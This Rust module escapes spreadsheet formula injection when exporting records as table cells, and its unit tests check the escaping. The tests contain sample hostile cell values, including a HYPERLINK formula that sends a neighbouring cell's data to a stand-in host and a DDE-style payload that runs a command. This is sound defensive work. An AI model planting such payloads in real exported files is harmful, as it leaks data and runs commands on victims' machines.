//! A record as the cells of a table that a spreadsheet may open.
//!
//! Names, numbers and header values are what strangers have sent. A spreadsheet takes a cell for a formula that begins with
//! `=`, `+`, `-` or `@`, also behind a tab or a line's end, and a formula can send what is beside it elsewhere. So such a cell
//! gets a `'` in front, which says "this is text". One that begins with `'` itself gets another, so that a program has the value
//! again by taking one `'` away, wherever there is one. A telephone number, `+` and digits alone, stays as it is: as a formula it
//! is a number, and records are joined by it. Numbers of the box's own, times and empty cells are never touched.

use std::fmt;

use serde::de::{Deserialize, Deserializer, MapAccess, Visitor};
use serde::{Serialize, de};
use serde_json::Value;

/// Names and values of one flat object, in the order in which its type has them.
#[derive(Debug)]
pub(crate) struct Row(Vec<(String, Value)>);

impl Row {
    /// Of a record.
    pub(crate) fn of(record: &impl Serialize) -> Result<Row, serde_json::Error> {
        serde_json::from_str(&serde_json::to_string(record)?)
    }

    /// The heads of the columns.
    pub(crate) fn names(&self) -> impl Iterator<Item = &str> {
        self.0.iter().map(|(name, _)| name.as_str())
    }

    /// The cells below them.
    pub(crate) fn cells(&self) -> impl Iterator<Item = String> {
        self.0.iter().map(|(_, value)| match value {
            Value::Null => String::new(),
            Value::Bool(_) | Value::Number(_) => value.to_string(),
            Value::String(text) => text_cell(text),
            // Begins with a bracket.
            Value::Array(_) | Value::Object(_) => value.to_string(),
        })
    }
}

fn text_cell(text: &str) -> String {
    if is_formula(text) { format!("'{text}") } else { text.to_owned() }
}

fn is_formula(text: &str) -> bool {
    let Some(first) = text.chars().next() else { return false };
    match first {
        '+' => !text.bytes().skip(1).all(|byte| byte.is_ascii_digit()) || text.len() == 1,
        // The wide ones are the same to a spreadsheet that is set to a language that writes them so.
        '=' | '-' | '@' | '\t' | '\r' | '\n' | '\'' | '＝' | '＋' | '－' | '＠' => true,
        _ => false,
    }
}

impl<'de> Deserialize<'de> for Row {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Row, D::Error> {
        struct InOrder;

        impl<'de> Visitor<'de> for InOrder {
            type Value = Row;

            fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str("an object")
            }

            fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Row, A::Error> {
                let mut fields = Vec::new();
                while let Some((name, value)) = map.next_entry()? {
                    fields.push((name, value));
                }
                if fields.is_empty() {
                    Err(de::Error::custom("expected a record, got no fields"))
                } else {
                    Ok(Row(fields))
                }
            }
        }

        deserializer.deserialize_map(InOrder)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_that_a_spreadsheet_would_run_is_text_and_a_telephone_number_stays_one() {
        for harmless in
            ["", "alice", "+4930123456", "15550001", "192.0.2.1:5060", "a=b", "<sip:+49@x>", "{\"a\":1}"]
        {
            assert_eq!(text_cell(harmless), harmless);
        }
        for formula in [
            "=HYPERLINK(\"http://x/?\"&A1)",
            "+49;cmd",
            "+",
            "+1+cmd|' /C calc'!A0",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "＝1",
            "'=1",
        ] {
            let cell = text_cell(formula);
            assert_eq!(
                cell.strip_prefix('\''),
                Some(formula),
                "whoever takes the mark away has the value again"
            );
        }
    }

    #[test]
    fn a_row_has_the_columns_in_the_order_of_the_type() {
        #[derive(Serialize)]
        struct Record {
            zone: &'static str,
            a: Option<u8>,
            loss: f32,
            ok: bool,
            tags: Value,
        }
        let record = Record {
            zone: "=z",
            a: None,
            loss: -0.5,
            ok: true,
            tags: serde_json::json!({"customer": "=acme"}),
        };
        let row = Row::of(&record).unwrap_or_else(|error| panic!("{error}"));
        assert_eq!(row.names().collect::<Vec<_>>(), ["zone", "a", "loss", "ok", "tags"]);
        assert_eq!(row.cells().collect::<Vec<_>>(), ["'=z", "", "-0.5", "true", "{\"customer\":\"=acme\"}"]);
    }
}
